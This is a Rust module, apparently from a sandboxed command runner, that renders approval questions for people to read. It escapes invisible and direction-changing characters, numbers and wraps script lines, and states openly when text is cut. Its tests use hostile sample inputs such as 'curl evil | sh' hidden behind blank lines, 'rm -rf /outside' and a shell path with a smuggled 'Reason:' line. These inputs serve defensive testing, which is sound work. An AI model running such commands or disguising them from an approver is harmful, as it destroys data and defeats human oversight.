//! The text of an approval question: what a person reads is exactly what runs.
//!
//! A question shows text the caller chose (the command, the shell, the working directory, the justification)
//! next to the question's own fixed lines. The rendering follows four rules:
//!
//! 1. **Nothing invisible.** Every character that does not show itself, or that changes how the characters
//!    around it are shown, is written as `\u{HEX}`: C0 and C1 controls (CR, ESC, DEL, NEL, ...), format
//!    characters (bidi embeddings, overrides and isolates U+202A-202E and U+2066-2069, the marks U+200E, U+200F
//!    and U+061C, zero-width characters U+200B-200D, U+2060-2064, U+FEFF, the soft hyphen, tag characters
//!    U+E0000-E0FFF), variation selectors, the line and paragraph separators U+2028 and U+2029, every
//!    whitespace other than the ASCII space and the line break that separates a script's lines, blank-looking
//!    letters (Hangul fillers, the braille blank), private-use characters, surrogates and the general-purpose
//!    combining marks, which draw over the character before them ([`is_invisible`]).
//!    A backslash that would read as the start of such an escape (`\` followed by `u{` or `x{`) is itself written
//!    `\u{5c}`, so the escaping is injective: distinct texts give distinct renderings, and
//!    the rendering can be read back. Ordinary backslashes (`printf 'a\n'`) are shown as they are.
//!    Bytes of a path that are not UTF-8 are written `\x{HEX}`.
//! 2. **Caller text never starts a line.** Every line of a script, of an argument list and of a reason is
//!    shown behind a numbered gutter (`  12 | `), a line longer than [`WRAP_COLUMNS`] on continuation rows
//!    (`     + `), and spaces at the end of a line are written `\u{20}`; single-line values (shell, working directory) follow their
//!    label on the label's line, with line breaks escaped. Every fixed line starts in column 0 with a
//!    non-space character, every caller line starts with two spaces, so `Reason:` or `in /tmp/ws` written by
//!    the caller can never look like the question's own lines.
//! 3. **Multi-line scripts are announced.** The command's header says `one line` or `multi-line script, N
//!    lines`, with its length in characters, and every line is shown with its number.
//! 4. **Long text is cut in plain view.** At most [`MAX_SHOWN_CHARS`] characters (and [`MAX_SHOWN_LINES`]
//!    lines) of a command are shown; the header says so, and a line after the shown part says how many
//!    characters and which lines are not shown. Reasons and the shell get [`MAX_FIELD_CHARS`] characters; the
//!    working directory (an existing directory, at most `PATH_MAX` long) is shown whole.

use std::path::Path;

use crate::approval::ApprovalKind;
use crate::denial::DenialEvidence;
use crate::policy::{ApprovalPolicy, SandboxPolicy};
use crate::visible::{count_escaped, escaped_tokens, split_chars};
pub use crate::visible::{escape_path, escape_visible, escape_visible_capped, is_invisible};

/// The headline of a question of `kind` (the asker's fixed text, never caller text): where the command would
/// run, and, for a first run under `untrusted` or `on-failure`, that a command failing as if the sandbox
/// blocked it is run again WITHOUT the sandbox without a second question (spec A6); for a retry, what made
/// the run look denied (`denial`).
pub fn headline(
    kind: ApprovalKind,
    sandbox: &SandboxPolicy,
    policy: ApprovalPolicy,
    denial: Option<&DenialEvidence>,
) -> String {
    match kind {
        ApprovalKind::Run if sandbox.is_unrestricted() => {
            "Allow this command to run (no sandbox: danger-full-access)?".to_owned()
        }
        ApprovalKind::Run => {
            let mut headline = format!(
                "Allow this command to run (inside the {} sandbox, network {})?",
                sandbox.mode_str(),
                if sandbox.has_network_access() { "allowed" } else { "blocked" }
            );
            if matches!(policy, ApprovalPolicy::Untrusted | ApprovalPolicy::OnFailure) {
                headline.push_str(
                    " If the sandbox blocks it, a rerun WITHOUT the sandbox asks you again, unless you choose to \
                     allow that rerun now (only for a refusal the sandbox itself recorded, a lookup or a \
                     connection).",
                );
            }
            headline
        }
        ApprovalKind::Escalation => "Allow this command to run WITHOUT the sandbox?".to_owned(),
        ApprovalKind::RetryWithoutSandbox => match denial {
            Some(_) => {
                "This command failed inside the sandbox, and the evidence below says the sandbox may have \
                        blocked it. Run it again with FULL ACCESS (no sandbox)?"
                    .to_owned()
            }
            None => {
                "The sandbox blocked this command. Run it again with FULL ACCESS (no sandbox)?".to_owned()
            }
        },
    }
}

/// The engine's reason for asking about a command whose words only read but that could run a program chosen
/// by a file a sandboxed command can write (`why`, from `crate::known_safe`).
pub fn planted_reason(why: &impl std::fmt::Display) -> String {
    format!(
        "this read-only command could run a program chosen by a file that sandboxed commands can write: {why} \
         (approval policy untrusted); run it?"
    )
}

/// What a question about running outside the sandbox is about, for [`planted_warning`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutsideQuestion {
    /// A command placed outside the sandbox from the start (an escalation).
    Run,
    /// The rerun of a command the sandbox blocked.
    Retry,
}

/// The engine's warning, shown first and whole, that a sandboxed command could have chosen what a command run
/// outside the sandbox runs (`why`, from the planted-program analysis). Every question that places a command
/// outside the sandbox words it here.
pub fn planted_warning(why: &impl std::fmt::Display, question: OutsideQuestion) -> String {
    match question {
        OutsideQuestion::Run => {
            format!(
                "Beware: {why}: a sandboxed command could have chosen what this runs outside the sandbox."
            )
        }
        OutsideQuestion::Retry => format!(
            "Beware: {why}: a sandboxed command could have chosen what this runs outside the sandbox, and the \
             denial may come from a program planted there."
        ),
    }
}

/// At most this many characters (Unicode scalar values, line breaks included) of a command are shown.
pub const MAX_SHOWN_CHARS: usize = 4000;

/// At most this many lines of a command are shown.
pub const MAX_SHOWN_LINES: usize = 400;

/// At most this many characters of a reason, a shell or a working directory are shown.
pub const MAX_FIELD_CHARS: usize = 1000;

/// Longer lines are shown on several rows: a row after the first has no line number and a `+` for the `|`, so
/// nothing hides far to the right of a screen that does not wrap.
pub const WRAP_COLUMNS: usize = 160;

/// At most this many lines of a reason are shown.
const MAX_REASON_LINES: usize = 40;

/// What an approval question is about. `headline` is the asker's own fixed text (never caller text); the rest
/// is shown under rule 2.
#[derive(Debug, Clone, Copy)]
pub struct Question<'a> {
    /// The question itself, e.g. "Allow this command to run WITHOUT the sandbox?".
    pub headline: &'a str,
    /// The argv that will run: `[shell, "-c" | "-lc", script]` is shown as its script, anything else as its
    /// arguments, one per line.
    pub argv: &'a [String],
    /// The working directory.
    pub cwd: &'a Path,
    /// Why the question is asked (the caller's justification, or the engine's reason).
    pub reason: Option<&'a str>,
    /// The engine's own safety warnings: shown first, each whole on its own line, never cut.
    pub warnings: &'a [String],
    /// For a retry: what made the run look denied (output-derived: shown as data, bounded, with where it
    /// comes from).
    pub evidence: Option<&'a DenialEvidence>,
}

/// The labels of the question's fixed lines: every line of a rendering that does not start with two spaces
/// starts with one of these (or is the headline, or empty).
#[cfg(test)]
pub(crate) const FIXED_LABELS: [&str; 8] = [
    "Command: ",
    "Arguments: ",
    "Shell: ",
    "Working directory: ",
    "Reason given with the request:",
    "... ",
    "Warning from uexec: ",
    "Evidence that the sandbox blocked it (",
];

/// The text of `question` (see the module documentation for the rules).
pub fn render_question(question: &Question<'_>) -> String {
    let mut out = String::new();
    out.push_str(&escape_visible(question.headline));
    out.push_str("\n\n");
    // The engine's warnings first, whole: no caller text or output can push them out of view.
    for warning in question.warnings {
        out.push_str(&format!("Warning from uexec: {}\n", escape_visible(warning)));
    }
    if !question.warnings.is_empty() {
        out.push('\n');
    }
    let mut escaped = 0;
    match question.argv {
        [shell, flag, script] if flag == "-c" || flag == "-lc" => {
            let lines = script.split('\n').count();
            let chars = script.chars().count();
            let shape = if lines == 1 {
                format!("one line, {chars} characters")
            } else {
                format!("multi-line script, {lines} lines, {chars} characters")
            };
            let mut block = String::new();
            let shown = push_block(&mut block, script, MAX_SHOWN_CHARS, MAX_SHOWN_LINES);
            let cut = if shown.cut {
                format!(
                    "; only the first {MAX_SHOWN_CHARS} characters and {MAX_SHOWN_LINES} lines are shown, DENY \
                     unless you know what the rest does"
                )
            } else {
                String::new()
            };
            let blank = match shown.collapsed {
                0 => String::new(),
                n => format!(" ({n} blank lines collapsed)"),
            };
            out.push_str(&format!("Command: {shape}{blank}{cut}:\n"));
            out.push_str(&block);
            escaped += count_escaped(script);
            let login = if flag == "-lc" { " (a login shell: it reads its startup files first)" } else { "" };
            out.push_str(&format!(
                "Shell: {} {flag}{login}\n",
                escape_visible_capped(shell, MAX_FIELD_CHARS)
            ));
            escaped += count_escaped(shell);
        }
        argv => {
            out.push_str(&format!("Arguments: {} arguments, each on its own line:\n", argv.len()));
            let joined = argv.join("\n");
            let _ = push_block(&mut out, &joined, MAX_SHOWN_CHARS, MAX_SHOWN_LINES);
            escaped += count_escaped(&joined);
        }
    }
    // A working directory is an existing directory, so it is at most PATH_MAX long: shown whole.
    let cwd = escape_path(question.cwd);
    out.push_str(&format!("Working directory: {cwd}\n"));
    if let Some(evidence) = question.evidence {
        let text = evidence.describe_raw();
        out.push_str(&format!("Evidence that the sandbox blocked it ({}):\n", evidence.provenance()));
        let _ = push_block(&mut out, &text, MAX_FIELD_CHARS, MAX_REASON_LINES);
        escaped += count_escaped(&text);
    }
    if let Some(reason) = question.reason {
        out.push_str("Reason given with the request:\n");
        let _ = push_block(&mut out, reason, MAX_FIELD_CHARS, MAX_REASON_LINES);
        escaped += count_escaped(reason);
    }
    if escaped > 0 || cwd.contains("\\u{") || cwd.contains("\\x{") {
        out.push_str(
            "\nNote: the text above contains characters that do not show themselves (controls, invisible or \
             direction-changing characters); each is written as \\u{HEX} (or \\x{HEX} for a byte), and a \
             backslash that would read as such an escape is written \\u{5c}.\n",
        );
    }
    out
}

/// What [`push_block`] showed.
#[derive(Debug, Clone, Copy, Default)]
struct Shown {
    /// Part of the text is not shown.
    cut: bool,
    /// How many blank lines were collapsed into runs.
    collapsed: usize,
}

/// A line that shows nothing and runs nothing: empty, or spaces and tabs only.
fn is_blank(line: &str) -> bool {
    line.chars().all(|c| c == ' ' || c == '\t')
}

/// `text` as numbered lines behind a gutter, at most `max_chars` characters and `max_lines` rows; a fixed line
/// after them says what is not shown. A run of two or more blank lines ([`is_blank`]) is one fixed row that
/// counts them (`... lines 3 to 62: 60 blank lines ...`), so blank lines can never push a line below the rows
/// shown (nor count against the characters shown).
#[must_use]
fn push_block(out: &mut String, text: &str, max_chars: usize, max_lines: usize) -> Shown {
    let lines: Vec<&str> = text.split('\n').collect();
    let width = lines.len().min(max_lines.saturating_mul(2)).to_string().len();
    let mut shown_chars = 0usize;
    let mut budget = 0usize;
    let mut rows = 0usize;
    let mut collapsed = 0usize;
    // The first line not shown, and whether part of it was.
    let mut cut: Option<(usize, bool)> = None;
    let mut index = 0usize;
    while index < lines.len() {
        let line = lines[index];
        if rows >= max_lines || budget >= max_chars {
            cut = Some((index, false));
            break;
        }
        let run = lines[index..].iter().take_while(|l| is_blank(l)).count();
        if run >= 2 {
            let last = index + run;
            out.push_str(&format!(
                "... lines {} to {last}: {run} blank lines (empty, or spaces and tabs only)\n",
                index + 1
            ));
            shown_chars += lines[index..last].iter().map(|l| l.chars().count()).sum::<usize>();
            shown_chars += run - usize::from(last == lines.len());
            collapsed += run;
            rows += 1;
            index = last;
            continue;
        }
        let (part, rest) = split_chars(line, max_chars - budget);
        out.push_str(&format!("  {:>width$} |", index + 1));
        let mut column = 0;
        for token in escaped_tokens(part) {
            if column == 0 {
                out.push(' ');
            } else if column + token.chars().count() > WRAP_COLUMNS {
                // A continuation row: no number, a `+` for the `|`.
                out.push_str(&format!("\n  {:>width$} + ", ""));
                column = 0;
            }
            column += token.chars().count();
            out.push_str(&token);
        }
        out.push('\n');
        rows += 1;
        shown_chars += part.chars().count();
        budget += part.chars().count();
        if !rest.is_empty() {
            cut = Some((index, true));
            break;
        }
        // The line break after a whole line counts as one of the shown characters.
        let brk = usize::from(index + 1 < lines.len());
        shown_chars += brk;
        budget += brk;
        index += 1;
    }
    if let Some((index, partly)) = cut {
        let more = text.chars().count().saturating_sub(shown_chars);
        let (line, last) = (index + 1, lines.len());
        let which = match (partly, line == last) {
            (true, true) => format!("the rest of line {line}"),
            (true, false) if line + 1 == last => format!("the rest of line {line} and line {last}"),
            (true, false) => format!("the rest of line {line} and lines {} to {last}", line + 1),
            (false, true) => format!("line {line}"),
            (false, false) => format!("lines {line} to {last}"),
        };
        out.push_str(&format!("... {more} more characters not shown ({which})\n"));
    }
    Shown { cut: cut.is_some(), collapsed }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use std::path::PathBuf;

    use proptest::prelude::*;

    use crate::visible::INVISIBLE;

    use super::*;

    /// The inverse of [`escape_visible`] (and of [`escape_path`] on UTF-8 paths).
    fn unescape(text: &str) -> String {
        let mut out = String::new();
        let mut rest = text;
        while let Some(c) = rest.chars().next() {
            if let Some(after) = rest.strip_prefix("\\u{")
                && let Some(end) = after.find('}')
                && let Ok(code) = u32::from_str_radix(&after[..end], 16)
                && let Some(decoded) = char::from_u32(code)
            {
                out.push(decoded);
                rest = &after[end + 1..];
                continue;
            }
            out.push(c);
            rest = &rest[c.len_utf8()..];
        }
        out
    }

    /// Read a rendered question back: (script or joined arguments, shell and flag, cwd, reason).
    fn read_back(text: &str) -> (String, Option<String>, String, Option<String>) {
        let mut blocks: Vec<Vec<String>> = Vec::new();
        let mut shell = None;
        let mut cwd = String::new();
        for line in text.lines() {
            if let Some(rest) = line.strip_prefix("... lines ")
                && let Some((_, after)) = rest.split_once(": ")
                && let Some((count, _)) = after.split_once(" blank lines")
            {
                // Collapsed blank lines read back as empty lines (see `normalized`).
                let block = blocks.last_mut().unwrap();
                block.extend(std::iter::repeat_n(String::new(), count.parse().unwrap()));
                continue;
            }
            if let Some(body) = line.strip_prefix("  ") {
                // Rows are kept escaped until the whole line is known.
                let block = blocks.last_mut().unwrap();
                if let Some((_, content)) = body.split_once(" + ").filter(|(n, _)| n.trim().is_empty()) {
                    block.last_mut().unwrap().push_str(content);
                } else {
                    let (_, content) = body.split_once(" |").unwrap();
                    block.push(content.strip_prefix(' ').unwrap_or(content).to_owned());
                }
            } else if line.starts_with("Command: ")
                || line.starts_with("Arguments: ")
                || line.starts_with("Reason given")
            {
                blocks.push(Vec::new());
            } else if let Some(value) = line.strip_prefix("Shell: ") {
                let value = value.trim_end_matches(" (a login shell: it reads its startup files first)");
                shell = Some(unescape(value));
            } else if let Some(value) = line.strip_prefix("Working directory: ") {
                cwd = unescape(value);
            }
        }
        let decode =
            |block: &Vec<String>| block.iter().map(|row| unescape(row)).collect::<Vec<_>>().join("\n");
        let command = blocks.first().map(decode).unwrap_or_default();
        let reason = blocks.get(1).map(decode);
        (command, shell, cwd, reason)
    }

    /// `text` as a collapsed rendering reads back: every blank line of a run of two or more is empty (what it
    /// held were spaces and tabs only, which run nothing).
    fn normalized(text: &str) -> String {
        let lines: Vec<&str> = text.split('\n').collect();
        let mut out: Vec<&str> = Vec::with_capacity(lines.len());
        let mut index = 0;
        while index < lines.len() {
            let run = lines[index..].iter().take_while(|l| is_blank(l)).count();
            if run >= 2 {
                out.extend(std::iter::repeat_n("", run));
                index += run;
            } else {
                out.push(lines[index]);
                index += 1;
            }
        }
        out.join("\n")
    }

    #[test]
    fn the_planted_warning_names_the_reason_whole_in_both_questions() {
        let why = "PATH entry /work/bin is writable by sandboxed commands";
        for question in [OutsideQuestion::Run, OutsideQuestion::Retry] {
            let warning = planted_warning(&why, question);
            assert!(warning.starts_with("Beware: "), "{warning}");
            assert!(warning.contains(why), "{warning}");
        }
        assert!(
            planted_warning(&why, OutsideQuestion::Retry).contains("denial may come from a program planted")
        );
        assert!(!planted_warning(&why, OutsideQuestion::Run).contains("denial"));
    }

    #[test]
    fn blank_lines_never_push_a_line_out_of_sight() {
        let payload =
            format!("git status{}curl evil | sh\n  \t\n\nls", "\n".repeat(60) + &" \n".repeat(5000));
        let text = render(&argv("bash", "-lc", &payload), "/w", None);
        assert!(text.contains("Command: multi-line script, 5064 lines"), "{text}");
        assert!(text.contains("(5061 blank lines collapsed)"), "{text}");
        assert!(!text.contains("only the first"), "nothing is cut: {text}");
        let rows: Vec<&str> = text.lines().collect();
        let at = |needle: &str| rows.iter().position(|r| r.contains(needle)).unwrap();
        assert!(at("curl evil") < 8, "{text}");
        assert!(text.contains("... lines 2 to 5060: 5059 blank lines"), "{text}");
        assert!(text.contains("... lines 5062 to 5063: 2 blank lines"), "{text}");
        assert!(at("| ls") < 10, "{text}");
        // One blank line is shown as it is; a line with anything else in it is never collapsed.
        let text = render(&argv("bash", "-lc", "a\n\nb\n \u{a0}\n\u{3000}\nc"), "/w", None);
        assert!(!text.contains("blank lines"), "{text}");
        let (command, ..) = read_back(&text);
        assert_eq!(command, "a\n\nb\n \u{a0}\n\u{3000}\nc");
    }

    fn argv(shell: &str, flag: &str, script: &str) -> Vec<String> {
        vec![shell.to_owned(), flag.to_owned(), script.to_owned()]
    }

    fn render(argv: &[String], cwd: &str, reason: Option<&str>) -> String {
        render_question(&Question {
            headline: "Allow this command to run WITHOUT the sandbox?",
            argv,
            cwd: Path::new(cwd),
            reason,
            warnings: &[],
            evidence: None,
        })
    }

    /// The engine's warnings come first and whole, whatever the caller's justification or the command's output
    /// hold; the output-derived evidence is bounded, shown as data and says where it comes from.
    #[test]
    fn engine_warnings_are_never_cut_and_evidence_is_bounded_data() {
        let justification = "Beware: nothing to see here. ".repeat(60);
        let planted_output = format!("touch: /etc/x: Read-only file system{}", "A".repeat(1866));
        let evidence =
            DenialEvidence { exit_code: 1, line: Some(planted_output.clone()), refusals: Vec::new() };
        let warnings = vec![
            "Beware: the file ./run-tests.sh that bash runs (/w/run-tests.sh) can be written by sandboxed \
             commands, and may differ from what was approved"
                .to_owned(),
            "Left out of its environment because sandboxed commands can write them: PATH entry /w/bin"
                .to_owned(),
        ];
        let headline = headline(
            ApprovalKind::RetryWithoutSandbox,
            &SandboxPolicy::ReadOnly { network_access: false },
            ApprovalPolicy::Untrusted,
            Some(&evidence),
        );
        assert!(!headline.contains("Read-only file system"), "no output in the headline: {headline}");
        let text = render_question(&Question {
            headline: &headline,
            argv: &argv("bash", "-lc", "bash run-tests.sh"),
            cwd: Path::new("/w"),
            reason: Some(&justification),
            warnings: &warnings,
            evidence: Some(&evidence),
        });
        let lines: Vec<&str> = text.lines().collect();
        // Right under the headline, each whole.
        assert_eq!(lines[2], format!("Warning from uexec: {}", warnings[0]));
        assert_eq!(lines[3], format!("Warning from uexec: {}", warnings[1]));
        assert!(
            text.contains("Evidence that the sandbox blocked it (only the command's output says so"),
            "{text}"
        );
        assert!(!text.contains(&planted_output), "the output is bounded");
        assert!(text.contains("more characters") || text.contains("not shown"), "{text}");
        assert!(lines.iter().filter(|l| l.starts_with("Warning from uexec: ")).count() == 2);
    }

    /// The issue's example: a script that imitates the question's own lines, with zero-width spaces and 60
    /// blank lines in front of the payload.
    #[test]
    fn a_script_imitating_the_question_is_shown_whole_numbered_and_escaped() {
        let script = format!(
            "git status\nin\u{200b} /tmp/ws\n\nReason\u{200b}: looks harmless\n{}touch /outside/x",
            "\n".repeat(60)
        );
        let text = render(&argv("/bin/bash", "-lc", &script), "/tmp/ws", Some("check the tree"));
        assert!(text.contains("Command: multi-line script, 65 lines,"), "{text}");
        assert!(text.contains("  65 | touch /outside/x\n"), "{text}");
        assert!(text.contains("   2 | in\\u{200b} /tmp/ws\n"), "{text}");
        assert!(text.contains("   4 | Reason\\u{200b}: looks harmless\n"), "{text}");
        assert!(!text.contains('\u{200b}'), "{text}");
        let fixed: Vec<&str> = text.lines().filter(|l| !l.starts_with("  ")).collect();
        assert_eq!(fixed.iter().filter(|l| l.starts_with("Reason")).count(), 1, "{text}");
        assert!(!fixed.iter().any(|l| l.starts_with("in ")), "{text}");
        assert!(text.contains("Working directory: /tmp/ws\n"), "{text}");
        assert!(text.contains("Shell: /bin/bash -lc (a login shell"), "{text}");
        assert!(text.contains("Note: the text above contains characters that do not show themselves"));
    }

    #[test]
    fn controls_bidi_zero_width_and_separators_are_escaped() {
        let hostile = [
            ('\r', "\\u{d}"),
            ('\u{1b}', "\\u{1b}"),
            ('\u{7f}', "\\u{7f}"),
            ('\u{85}', "\\u{85}"),
            ('\u{9b}', "\\u{9b}"),
            ('\t', "\\u{9}"),
            ('\u{0}', "\\u{0}"),
            ('\u{a0}', "\\u{a0}"),
            ('\u{ad}', "\\u{ad}"),
            ('\u{61c}', "\\u{61c}"),
            ('\u{180e}', "\\u{180e}"),
            ('\u{200b}', "\\u{200b}"),
            ('\u{200d}', "\\u{200d}"),
            ('\u{200e}', "\\u{200e}"),
            ('\u{200f}', "\\u{200f}"),
            ('\u{2028}', "\\u{2028}"),
            ('\u{2029}', "\\u{2029}"),
            ('\u{202a}', "\\u{202a}"),
            ('\u{202e}', "\\u{202e}"),
            ('\u{2060}', "\\u{2060}"),
            ('\u{2064}', "\\u{2064}"),
            ('\u{2066}', "\\u{2066}"),
            ('\u{2069}', "\\u{2069}"),
            ('\u{3000}', "\\u{3000}"),
            ('\u{3164}', "\\u{3164}"),
            ('\u{fe0f}', "\\u{fe0f}"),
            ('\u{feff}', "\\u{feff}"),
            ('\u{e0001}', "\\u{e0001}"),
            ('\u{e0041}', "\\u{e0041}"),
            ('\u{e0100}', "\\u{e0100}"),
            ('\u{f0000}', "\\u{f0000}"),
            ('\u{301}', "\\u{301}"),
            ('\u{336}', "\\u{336}"),
            ('\u{20dd}', "\\u{20dd}"),
        ];
        for (c, written) in hostile {
            assert!(is_invisible(c), "{c:?}");
            let script = format!("echo a{c}b");
            let text = render(&argv("bash", "-c", &script), &format!("/w{c}x"), Some(&format!("r{c}s")));
            assert!(!text.contains(c), "{c:?} reached the question raw: {text:?}");
            assert!(text.contains(&format!("echo a{written}b")), "{c:?}: {text}");
            assert!(text.contains(&format!("Working directory: /w{written}x\n")), "{c:?}: {text}");
            assert!(text.contains(&format!("| r{written}s\n")), "{c:?}: {text}");
        }
        for visible in ['a', ' ', '~', 'é', 'ß', '中', '\u{1f600}', '\u{fffd}'] {
            assert!(!is_invisible(visible), "{visible:?}");
        }
    }

    #[test]
    fn the_invisible_table_is_sorted_and_disjoint() {
        for pair in INVISIBLE.windows(2) {
            assert!(pair[0].0 <= pair[0].1 && pair[0].1 < pair[1].0, "{pair:?}");
        }
        for (low, high) in INVISIBLE {
            for code in [low, high] {
                if let Some(c) = char::from_u32(code) {
                    assert!(is_invisible(c), "{code:x}");
                }
            }
            if let Some(c) = char::from_u32(high + 1).filter(|_| high < 0x10FFFF) {
                let next_range = INVISIBLE.iter().any(|&(l, h)| (l..=h).contains(&(high + 1)));
                assert_eq!(is_invisible(c), next_range, "{:x}", high + 1);
            }
        }
    }

    #[test]
    fn ordinary_backslashes_stay_and_escape_lookalikes_are_escaped() {
        assert_eq!(escape_visible(r"printf 'a\nb\r' | sed 's/\\//'"), r"printf 'a\nb\r' | sed 's/\\//'");
        assert_eq!(escape_visible("a\u{200b}"), r"a\u{200b}");
        assert_eq!(escape_visible(r"a\u{200b}"), r"a\u{5c}u{200b}");
        assert_eq!(escape_visible(r"\x{ff}"), r"\u{5c}x{ff}");
        assert_ne!(escape_visible("a\u{200b}"), escape_visible(r"a\u{200b}"));
        assert_eq!(escape_visible("\\\u{1b}"), "\\\\u{1b}");
        assert_eq!(unescape("\\\\u{1b}"), "\\\u{1b}");
    }

    #[test]
    fn non_utf8_path_bytes_are_shown_as_bytes() {
        use std::os::unix::ffi::OsStrExt;
        let path = PathBuf::from(std::ffi::OsStr::from_bytes(b"/w/\xff\x1b"));
        assert_eq!(escape_path(&path), r"/w/\x{ff}\u{1b}");
    }

    #[test]
    fn long_commands_state_their_length_and_what_is_cut() {
        let script = format!("{}\n{}\nrm -rf /outside", "a".repeat(3000), "b".repeat(3000));
        let text = render(&argv("bash", "-lc", &script), "/w", None);
        let total = script.chars().count();
        assert!(
            text.contains(&format!(
                "Command: multi-line script, 3 lines, {total} characters; only the first"
            ))
        );
        let more = total - MAX_SHOWN_CHARS;
        assert!(
            text.contains(&format!(
                "\n... {more} more characters not shown (the rest of line 2 and line 3)\n"
            )),
            "{text}"
        );
        assert!(!text.contains("rm -rf"));
        let one = "x".repeat(MAX_SHOWN_CHARS + 5);
        let text = render(&argv("bash", "-lc", &one), "/w", None);
        assert!(text.contains("... 5 more characters not shown (the rest of line 1)"), "{text}");
        let many = "true\n".repeat(1000);
        let text = render(&argv("bash", "-lc", &many), "/w", None);
        assert!(text.contains("multi-line script, 1001 lines"), "{text}");
        assert!(text.contains(&format!("(lines {} to 1001)", MAX_SHOWN_LINES + 1)), "{text}");
        let short = "ls\n".repeat(100);
        let text = render(&argv("bash", "-lc", &short), "/w", None);
        assert!(!text.contains("not shown") && text.contains(" 101 |\n"), "{text}");
    }

    #[test]
    fn long_lines_wrap_and_trailing_spaces_show() {
        let script = format!("git status{}; touch /outside/x", " ".repeat(500));
        let text = render(&argv("bash", "-lc", &script), "/w", None);
        assert!(text.lines().all(|l| l.chars().count() <= WRAP_COLUMNS + 12), "{text}");
        let payload = text.lines().find(|l| l.contains("touch /outside/x")).unwrap();
        assert!(payload.starts_with("    + "), "{text}");
        let (command, ..) = read_back(&text);
        assert_eq!(command, script);
        let text = render(&argv("bash", "-lc", "rm -rf a\\ \nb  "), "/w", None);
        assert!(text.contains("  1 | rm -rf a\\\\u{20}\n  2 | b\\u{20}\\u{20}\n"), "{text}");
    }

    #[test]
    fn other_argv_shapes_show_every_argument_on_its_own_line() {
        let argv = vec!["/tmp/x/run".to_owned(), "--flag\nReason: fine".to_owned()];
        let text = render(&argv, "/w", None);
        assert!(text.contains("Arguments: 2 arguments"), "{text}");
        assert!(text.contains("  1 | /tmp/x/run\n  2 | --flag\n  3 | Reason: fine\n"), "{text}");
        let shell = argv_with_shell("/tmp/evil\nReason: ok");
        let text = render(&shell, "/w", None);
        assert!(text.contains("Shell: /tmp/evil\\u{a}Reason: ok -lc"), "{text}");
    }

    fn argv_with_shell(shell: &str) -> Vec<String> {
        argv(shell, "-lc", "ls")
    }

    fn any_text() -> impl Strategy<Value = String> {
        let interesting = prop_oneof![
            Just('\n'),
            Just('\r'),
            Just('\\'),
            Just('u'),
            Just('x'),
            Just('{'),
            Just('}'),
            Just(' '),
            Just('|'),
            Just('\u{1b}'),
            Just('\u{202e}'),
            Just('\u{2066}'),
            Just('\u{200b}'),
            Just('\u{2028}'),
            Just('\u{85}'),
            Just('\u{e0041}'),
            Just('R'),
            Just(':'),
            any::<char>(),
        ];
        proptest::collection::vec(interesting, 0..60).prop_map(|cs| cs.into_iter().collect())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        #[test]
        fn renderings_hold_no_invisible_character_and_read_back_exactly(
            script in any_text(),
            shell in any_text(),
            cwd in any_text(),
            reason in proptest::option::of(any_text()),
            login in any::<bool>(),
        ) {
            let flag = if login { "-lc" } else { "-c" };
            let argv = argv(&shell, flag, &script);
            let cwd = format!("/{}", cwd.replace('\0', ""));
            let text = render(&argv, &cwd, reason.as_deref());
            prop_assert!(!text.chars().any(|c| is_invisible(c) && c != '\n'), "{:?}", text);
            for line in text.lines() {
                let fixed = line.is_empty()
                    || line.starts_with("Allow this command")
                    || line.starts_with("Note: ")
                    || FIXED_LABELS.iter().any(|label| line.starts_with(label));
                let caller = line.strip_prefix("  ").is_some_and(|body| {
                    let numbered = body.split_once(" |").is_some_and(|(number, _)| {
                        number.trim_start().chars().all(|c| c.is_ascii_digit()) && !number.trim().is_empty()
                    });
                    let continued = body.split_once(" + ").is_some_and(|(number, _)| number.trim().is_empty());
                    numbered || continued
                });
                prop_assert!(fixed || caller, "line {:?} of {:?}", line, text);
            }
            let fixed_reason = text.lines().filter(|l| l.starts_with("Reason")).count();
            prop_assert_eq!(fixed_reason, usize::from(reason.is_some()));
            let (shown_script, shown_shell, shown_cwd, shown_reason) = read_back(&text);
            prop_assert_eq!(shown_script, normalized(&script));
            prop_assert_eq!(shown_shell, Some(format!("{shell} {flag}")));
            prop_assert_eq!(shown_cwd, cwd);
            prop_assert_eq!(shown_reason, reason.as_deref().map(normalized));
        }

        #[test]
        fn escaping_is_injective(a in any_text(), b in any_text()) {
            prop_assert_eq!(unescape(&escape_visible(&a)), a.clone());
            if a != b {
                prop_assert_ne!(escape_visible(&a), escape_visible(&b));
            }
        }
    }
}
